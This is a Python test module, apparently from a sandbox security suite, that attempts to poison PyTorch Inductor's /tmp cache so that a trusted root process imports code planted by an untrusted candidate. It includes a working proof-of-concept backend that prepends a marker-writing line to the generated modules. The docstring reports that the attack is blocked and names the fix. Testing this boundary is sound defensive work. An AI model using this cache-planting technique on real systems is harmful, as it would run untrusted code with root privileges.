"""Attack: plant code in the trusted processes' Inductor cache.

With ``inductor_cache: null`` the trusted sandboxes compile in Inductor's default folder,
``<tmp>/torchinductor_<user>``. ``/tmp`` is world-writable: an untrusted candidate (its own uid)
that made that folder before any trusted process would own it. It compiles its subgraph with
Inductor in its own cache, which names each generated module by the hash of its source, and
writes the same module, with a line of its own in front, under the same name in the trusted
folder. Inductor writes a generated module only when no file of that name exists, so a trusted
sandbox compiling the same graph later (``backend:inductor``, its re-validation) would import the
planted file: the candidate's code as root in a trusted process. Measured: it is refused, because
the zygote's import of Inductor makes the folder (root's, 0755) before any candidate runs; the
parent now makes and checks it itself (:func:`curate.score.boundary.parent.trusted_inductor_cache`).
``TARGETS``: Inductor's default folder for root, and the one of a run of the parent with
``TMPDIR`` = ``MARK``'s folder. Refusals are caught: the backend is then Inductor, honestly."""
import linecache

from torch._inductor.codecache import PyCodeCache, write_atomic
from torch._inductor.compile_fx import compile_fx

TARGETS = ("/tmp/torchinductor_root", "/tmp/a41tmp/torchinductor_root")
MARK = "/tmp/a41tmp/PWNED"


def backend(gm, example_inputs):
    compiled = compile_fx(gm, example_inputs)
    for mod in list(PyCodeCache.modules_no_attr.values()):
        path = mod.__file__
        rel = "/".join(path.split("/")[-2:])
        src = "".join(linecache.getlines(path))
        head = f"open({MARK!r}, 'w').write('planted code ran as uid %d' % __import__('os').getuid())\n"
        for t in TARGETS:
            try:
                write_atomic(f"{t}/{rel}", head + src, make_dirs=True)
            except OSError:
                pass
    return compiled
